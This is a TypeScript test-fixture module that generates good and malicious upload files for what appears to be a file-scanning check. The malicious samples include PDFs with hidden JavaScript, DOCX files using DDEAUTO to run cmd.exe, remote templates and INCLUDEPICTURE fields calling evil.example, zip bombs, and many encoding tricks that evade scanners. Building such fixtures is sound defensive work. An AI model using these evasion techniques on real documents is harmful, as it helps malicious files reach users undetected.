/** Files to upload, good and bad, as the bytes of their types. */
import { deflateSync } from 'node:zlib'
import { CFB, utils, write } from '@e965/xlsx'
import { strToU8, unzipSync, type Zippable, zipSync } from 'fflate'
import sharp from 'sharp'

type Bytes = Uint8Array<ArrayBuffer>

const bytesOf = (data: Uint8Array): Bytes => new Uint8Array(data)
const text = (content: string): Bytes => bytesOf(Buffer.from(content, 'latin1'))

/** @param more objects of the file */
export const pdf = (more = ''): Bytes => text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n${more}\n%%EOF\n`)

/**
 * A script in a part that is packed, as most programs write them.
 *
 * @param type how the part's type is spelled
 */
export const pdfWithPackedScript = (type = '/ObjStm', more = ''): Bytes => {
  const packed = deflateSync(Buffer.from('1 0 << /S /Java#53cript /J#53 (app.alert(1)) >>')).toString('latin1')
  return pdf(
    `2 0 obj\n<< /Type ${type} ${more} /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${packed}\nendstream\nendobj`,
  )
}

/** The first bytes after `stream` are harmless, and not the ones that are packed. */
export const pdfWithPackedDecoy = (): Bytes => {
  const decoy = deflateSync(Buffer.from('1 0 << >>')).toString('latin1')
  return pdfWithPackedScript('/ObjStm /Filter /FlateDecode', `/Note (stream\n${decoy})`)
}

const SCRIPT = '1 0 << /S /JavaScript /JS (app.alert(1)) >>'

const packedPdf = (start: string, bytes: Buffer) =>
  pdf(`${start}\nstream\n${bytes.toString('latin1')}\nendstream\nendobj`)

/** Packed parts as programs write them: a harmless one, and one with a script. */
export const packedPdfs = (): [start: string, harmless: Bytes, script: Bytes][] =>
  [
    '2 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 50>>',
    '2 0 obj\n<< /Filter [ /FlateDecode ]\n/N 1 /First 4 /Type /ObjStm >>',
    '% made by a program\n2 0 obj\r<</Extends 5 0 R/Filter[/FlateDecode]/First 4/N 1/Type/ObjStm>>',
  ].map((start) => [start, packedPdf(start, deflateSync('1 0 << >>')), packedPdf(start, deflateSync(SCRIPT))])

/** What hides a script from a check that reads less strictly than the programs that show PDFs. */
export const pdfsThatHideScripts = (): [what: string, bytes: Bytes][] => {
  const once = deflateSync(Buffer.from(SCRIPT))
  const twice = deflateSync(once)
  const differences = Buffer.from(SCRIPT).map((byte, at, all) => byte - (at === 0 ? 0 : (all[at - 1] ?? 0)))
  const packed = (dictionary: string, bytes: Buffer) => packedPdf(`2 0 obj\n<< ${dictionary} /N 1 /First 4 >>`, bytes)
  const filters = '/Filter [/FlateDecode /FlateDecode]'
  return [
    ['a null character after its name', pdf('2 0 obj << /S /JavaScript\0/JS\0(app.alert(1)) >>')],
    ['a comment after its name', pdf('2 0 obj << /S /JavaScript% \n/JS%\n(app.alert(1)) >>')],
    ['a null character after the type of its part', packed('/Type /ObjStm\0/Filter /FlateDecode', once)],
    ['a comment after the type of its part', packed('/Type /ObjStm%\n/Filter /FlateDecode', once)],
    ['a part that is packed twice', packed(`/Type /ObjStm ${filters}`, twice)],
    [
      'a second name of the filters',
      packed('/Type /ObjStm /Filter /FlateDecode /F [/FlateDecode /FlateDecode]', twice),
    ],
    [
      'a predictor',
      packed('/Type /ObjStm /Filter /FlateDecode /Decode#50arms << /Predictor 2 >>', deflateSync(differences)),
    ],
    ['an object in a text', packed(`${filters} /A (1 0 obj) /Type /ObjStm /B /Filter /FlateDecode`, twice)],
    ['an object in a comment', packed(`${filters} % 1 0 obj <<\n/Type /ObjStm /Filter /FlateDecode`, twice)],
    ['a long dictionary', packed(`${filters} ${'/A 1 '.repeat(1000)} /Type /ObjStm /B /Filter /FlateDecode`, twice)],
  ]
}

const OOXML = 'application/vnd.openxmlformats-officedocument'
const RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const relationships = (type: string, target: string) =>
  strToU8(`<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${RELATIONSHIP}/${type}"
    Target="${target}" TargetMode="External"/></Relationships>`)

const word = (parts: Zippable): Bytes =>
  bytesOf(
    zipSync({
      '[Content_Types].xml': strToU8(
        `<Types><Override PartName="/word/document.xml" ContentType="${OOXML}.wordprocessingml.document.main+xml"/></Types>`,
      ),
      'word/document.xml': strToU8('<w:document/>'),
      ...parts,
    }),
  )

const LINKS = 'word/_rels/document.xml.rels'

export const docx = (): Bytes => word({ [LINKS]: relationships('hyperlink', 'https://district.example') })
export const docxWithMacros = (): Bytes => word({ 'word/vbaProject.bin': strToU8('x') })
const SETTINGS = 'word/_rels/settings.xml.rels'

/** A template elsewhere, plain and in spellings that hide it. */
export const docxWithTemplate = (): [string, Bytes][] => {
  const plain = relationships('attachedTemplate', 'https://evil.example/t.dotm')
  const spelled = (from: string, to: string) =>
    word({ [SETTINGS]: strToU8(Buffer.from(plain).toString().replace(from, to)) })
  return [
    ['plain', word({ [SETTINGS]: plain })],
    ['another case', word({ 'word/_rels/settings.xml.RELS': plain })],
    ['UTF-16', word({ [SETTINGS]: bytesOf(Buffer.from(`\ufeff${Buffer.from(plain)}`, 'utf16le')) })],
    ['an entity', spelled('"External"', '"&#69;xternal"')],
    ['a bracket in an attribute', spelled(' Id="r1"', ' Id="r>1"')],
    ['a link in another attribute', spelled(' Id="r1"', ` Id='Type="/hyperlink"'`)],
  ]
}

const sheet = (bookType: 'xlsx' | 'biff8'): Bytes => {
  const book = utils.book_new()
  utils.book_append_sheet(book, utils.aoa_to_sheet([['ID'], [1]]), 'Sheet')
  return bytesOf(write(book, { bookType, type: 'buffer' }))
}
export const xlsx = (): Bytes => sheet('xlsx')
export const xls = (): Bytes => sheet('biff8')

/** A file of an old Word, as far as it is looked into. */
const oldWord = (content: string): Bytes => {
  const file = CFB.utils.cfb_new()
  CFB.utils.cfb_add(file, '/WordDocument', Buffer.from(content.padEnd(5000), 'latin1'))
  return bytesOf(Buffer.from(CFB.write(file, { type: 'array' })))
}

const withEntries = (file: Bytes, parts: Zippable): Bytes => bytesOf(zipSync({ ...unzipSync(file), ...parts }))

/** @param size what the only part's entry says about its size, in bytes */
const zipOf = (size: number): Bytes => {
  const file = Buffer.from(zipSync({ a: new Uint8Array(100_000) }))
  const directory = file.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1'))
  file.writeUInt32LE(size, directory + 24)
  return bytesOf(file)
}
export const zipBomb = (): Bytes => zipOf(2_000_000_000)
/** It is larger than it says. */
export const lyingZip = (): Bytes => zipOf(10)
export const zip = (): Bytes => bytesOf(zipSync({ 'certificate.pdf': pdf() }))

/** A photo with the place where it was taken. */
export const photo = async (): Promise<Bytes> => {
  const image = sharp({ create: { width: 40, height: 20, channels: 3, background: 'red' } })
  const place = { IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 47/1 0/1' }, IFD0: { Copyright: 'Paul Provider' } }
  return bytesOf(await image.jpeg().withExif(place).toBuffer())
}

/** A plain PNG image, in pixels. */
export const image = async (width: number, height: number): Promise<Bytes> =>
  bytesOf(
    await sharp({ create: { width, height, channels: 3, background: 'white' } })
      .png()
      .toBuffer(),
  )

/** The EICAR test file, which every virus scanner finds. */
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'

const MEGABYTE = 1024 * 1024

/**
 * Small, and large when unpacked: the same packed part over and over.
 *
 * @param megabytes of each part, unpacked
 * @param types how often each part says what it is
 */
export const pdfOfParts = (count: number, megabytes: number, types = 1): Bytes => {
  const packed = deflateSync(Buffer.alloc(megabytes * MEGABYTE, ' ')).toString('latin1')
  const part = `2 0 obj\n<< ${'/Type /ObjStm '.repeat(types)} /Filter /FlateDecode >>\nstream\n${packed}\nendstream\nendobj\n`
  return pdf(part.repeat(count))
}

/** The file with more entries, all of the same part: packing each would take a minute. */
function withParts(file: Bytes, count: number, megabytes: number): Bytes {
  const bytes = Buffer.from(file)
  const end = bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1')
  const directory = bytes.readUInt32LE(end + 16)
  const [known, part] = [bytes.readUInt16LE(end + 10), new Uint8Array(megabytes * MEGABYTE)]
  const one = Buffer.from(zipSync({ part0: part }, { level: 9 }))
  const oneEnd = one.lastIndexOf('PK\x05\x06', undefined, 'latin1')
  const oneDirectory = one.readUInt32LE(oneEnd + 16)
  const local = one.subarray(0, oneDirectory)
  const entries = Array.from({ length: count }, (_, index) => {
    const entry = Buffer.from(one.subarray(oneDirectory, oneEnd))
    entry.writeUInt32LE(directory + index * local.length, 42)
    return entry
  })
  const added = Buffer.concat(entries)
  const tail = Buffer.from(bytes.subarray(end))
  for (const at of [8, 10]) tail.writeUInt16LE(known + count, at)
  tail.writeUInt32LE(end - directory + added.length, 12)
  tail.writeUInt32LE(directory + count * local.length, 16)
  return bytesOf(
    Buffer.concat([
      bytes.subarray(0, directory),
      ...Array.from({ length: count }, () => local),
      bytes.subarray(directory, end),
      added,
      tail,
    ]),
  )
}

/** Parts of a size, which all unpack to what they say. */
export const zipOfParts = (count: number, megabytes: number): Bytes => withParts(zip(), count, megabytes)
export const docxOfParts = (count: number, megabytes: number): Bytes => withParts(docx(), count, megabytes)

const WORD_NAMESPACE = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'

/** A Word file whose document has this in its only paragraph. */
const docxSaying = (runs: string, parts: Zippable = {}): Bytes =>
  word({
    'word/document.xml': strToU8(
      `<w:document xmlns:w="${WORD_NAMESPACE}"><w:body><w:p>${runs}</w:p></w:body></w:document>`,
    ),
    ...parts,
  })
/** A small Word file whose placeholders begin over and over; reading it as a letter takes many seconds. */
export const slowLetter = (): Bytes => docxSaying(`<w:r><w:t>${'{{'.repeat(5_000_000)}</w:t></w:r>`)

const fieldMark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const fieldText = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const field = (...texts: string[]) =>
  `${fieldMark('begin')}${texts.map(fieldText).join('')}${fieldMark('separate')}<w:r><w:t>1</w:t></w:r>${fieldMark('end')}`

const internal = (type: string, target: string) =>
  strToU8(`<Relationships><Relationship Id="r1" Type="${type}" Target="${target}"/></Relationships>`)
const withTypes = (types: string, parts: Zippable): Bytes =>
  word({
    '[Content_Types].xml': strToU8(
      `<Types><Override PartName="/word/document.xml" ContentType="${OOXML}.wordprocessingml.document.main+xml"/>${types}</Types>`,
    ),
    ...parts,
  })

export type NamedFile = [what: string, name: string, bytes: Bytes]

/** Word files with programs, under the names of harmless parts. */
export const filesWithPrograms = (): NamedFile[] => [
  [
    'macros under another name',
    'a.docx',
    word({
      [LINKS]: internal('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'media/image1.png'),
    }),
  ],
  [
    'macros that only their type tells',
    'a.docx',
    withTypes('<Override PartName="/word/theme.xml" ContentType="application/vnd.ms-office.vbaProject"/>', {
      'word/theme.xml': strToU8('x'),
    }),
  ],
  [
    'macros that only the type of their ending tells',
    'a.docx',
    withTypes('<Default Extension="DAT" ContentType="application/vnd.ms-office.vbaProject"/>', {
      'a.dat': strToU8('x'),
    }),
  ],
  ['DDEAUTO', 'a.docx', docxSaying(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))],
  ['DDE in runs of a letter each', 'a.docx', docxSaying(field(' ', 'D', 'D', 'E', ' cmd'))],
  ['DDE as a simple field', 'a.docx', docxSaying(`<w:fldSimple w:instr=' "dde cmd'/>`)],
  ['DDE in entities', 'a.docx', docxSaying(field('&#x0000000044;&#68;E cmd'))],
  ['DDE with a comment in it', 'a.docx', docxSaying(field('D<!-- </w:instrText> -->DE cmd'))],
  ['DDE as CDATA', 'a.docx', docxSaying(field('<![CDATA[DD]]>E cmd'))],
  [
    'DDE behind another field',
    'a.docx',
    docxSaying(`${fieldMark('begin')}${field('QUOTE 68 68 69')}${fieldText(' cmd')}${fieldMark('end')}`),
  ],
  ['DDE with another prefix', 'a.docx', docxSaying(field('DDE cmd').replaceAll('w:', 'x.y:'))],
  ['DDE in text that was deleted', 'a.docx', docxSaying(field('DDE cmd').replaceAll('instrText', 'delInstrText'))],
  [
    'DDE in a footer under another name',
    'a.docx',
    docxSaying('', { 'word/media/image1.png': strToU8(`  \n<w:ftr>${field('DDE cmd')}</w:ftr>`) }),
  ],
  [
    'DDE in UTF-16',
    'a.docx',
    docxSaying('', { 'word/header1.xml': bytesOf(Buffer.from(`\ufeff<w:hdr>${field('DDE cmd')}</w:hdr>`, 'utf16le')) }),
  ],
  [
    'DDE in UTF-16 that nothing announces',
    'a.docx',
    docxSaying('', { 'word/header1.xml': bytesOf(Buffer.from(`<w:hdr>${field('DDE cmd')}</w:hdr>`, 'utf16le')) }),
  ],
  [
    'DDE in UTF-16 in the other order of bytes, after a blank',
    'a.docx',
    docxSaying('', {
      'word/header1.xml': bytesOf(Buffer.from(` <w:hdr>${field('DDE cmd')}</w:hdr>`, 'utf16le').swap16()),
    }),
  ],
  ['macros in the workbook of a chart', 'a.docx', docxSaying('', { 'word/embeddings/Sheet1.xlsx': docxWithMacros() })],
  ['DDE in an old Word file', 'a.doc', oldWord('\x13 DDEAUTO cmd \x14')],
  [
    'DDE in an old Word file, in UTF-16',
    'a.doc',
    oldWord(Buffer.from('\x13 ddeauto cmd \x14', 'utf16le').toString('latin1')),
  ],
]

export const filesWithObjects = (): NamedFile[] => [
  [
    'an object of another program',
    'a.docx',
    word({ [LINKS]: internal(`${RELATIONSHIP}/oleObject`, 'media/image1.png') }),
  ],
  [
    'one by the strict standard',
    'a.docx',
    word({ [LINKS]: internal('http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject', 'x') }),
  ],
  ['one that nothing names', 'a.docx', word({ 'word/media/image1.png': bytesOf(xls()) })],
  ['one in a workbook', 'a.xlsx', withEntries(xlsx(), { 'xl/media/image1.png': bytesOf(xls()) })],
  [
    'a web page',
    'a.docx',
    word({ [LINKS]: internal(`${RELATIONSHIP}/aFChunk`, 'afchunk.txt'), 'word/afchunk.txt': strToU8('<html>') }),
  ],
  [
    'a web page that only its type tells',
    'a.docx',
    withTypes('<Default Extension="txt" ContentType="text/html"/>', { 'word/a.txt': strToU8('<html>') }),
  ],
  ['an object in an old Word file', 'a.doc', oldWord(Buffer.from('ObjectPool', 'utf16le').toString('latin1'))],
]

export const filesThatLoad = (): NamedFile[] => [
  ['INCLUDEPICTURE', 'a.docx', docxSaying(field(' INCLUDEPICTURE "https://evil.example/p.png" \\d '))],
  ['INCLUDETEXT of a local file', 'a.docx', docxSaying(field('IncludeText', ' "C:\\\\Users\\\\me\\\\secrets.txt"'))],
  ['INCLUDETEXT after a blank of another kind', 'a.docx', docxSaying(field('\u00a0INCLUDETEXT a'))],
  ['LINK', 'a.docx', docxSaying(`<w:fldSimple w:instr="LINK Excel.Sheet.12 C:\\\\a.xlsx"/>`)],
  [
    'a field within another',
    'a.docx',
    docxSaying(`${fieldMark('begin')}${fieldText('IF 1 = ')}${field('INCLUDETEXT a')}${fieldMark('end')}`),
  ],
  ['a part of another file', 'a.docx', word({ [LINKS]: internal(`${RELATIONSHIP}/subDocument`, 'b.docx') })],
  [
    'an add-in',
    'a.docx',
    word({
      '_rels/.rels': internal('http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes', 'x.xml'),
    }),
  ],
  [
    'a link to another workbook',
    'a.xlsx',
    withEntries(xlsx(), { 'xl/_rels/x.rels': internal(`${RELATIONSHIP}/externalLink`, 'externalLink1.xml') }),
  ],
  ['INCLUDEPICTURE in an old Word file', 'a.doc', oldWord('\x13 INCLUDEPICTURE "https://evil.example/p.png" \x14')],
]

/** What people have in their files, and must be able to upload. */
export const ordinaryFiles = (): NamedFile[] => [
  [
    'fields that compute',
    'a.docx',
    docxSaying(
      [
        ' PAGE ',
        ' DATE \\@ "M/d/yyyy" ',
        ' HYPERLINK "https://district.example" ',
        ' MERGEFIELD Link ',
        ' MACROBUTTON NoMacro [Click here] ',
        ' REF Includes ',
        '=1 + 2 ',
      ]
        .map((text) => field(text))
        .join('') +
        `${fieldMark('begin')}${fieldText(' IF ')}${field('MERGEFIELD a')}${fieldText(' = 1 "DDE" "LINK a"')}${fieldMark('end')}`,
    ),
  ],
  ['a chart with its workbook', 'a.docx', docxSaying('', { 'word/embeddings/Sheet1.xlsx': xlsx() })],
  [
    'a type for files that are not there',
    'a.docx',
    withTypes('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>', {}),
  ],
  ['an old Word file', 'a.doc', oldWord('\x13 PAGE \x14 DDE LINK ')],
]
